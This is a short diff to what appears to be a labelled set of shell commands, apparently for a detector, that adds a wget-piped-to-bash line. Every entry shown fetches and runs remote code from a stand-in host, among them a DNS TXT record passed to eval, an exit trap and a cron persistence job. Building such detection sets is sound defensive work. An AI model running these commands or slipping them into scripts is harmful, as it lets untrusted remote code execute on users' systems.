@@ -35,6 +35,7 @@ OPENS = {
     "curl -s https://c.example/a.tgz | tar xz -C $D\n$D/run": "downloads and runs",
     "curl -sN https://c.example/s | while read -r l; do $l; done": "downloads and runs",
     "c=$(dig +short TXT c.example.com)\neval $c": "downloads and runs",
+    "(wget -qO- http://c.example/f || true) | bash || true": "downloads and runs",
     "trap 'curl -s https://c.example/e | sh' EXIT": "downloads and runs",
     "cat > /etc/cron.d/x <<'E'\n*/7 * * * * root curl -s http://c.example/j | sh\nE": (
         "downloads and runs"
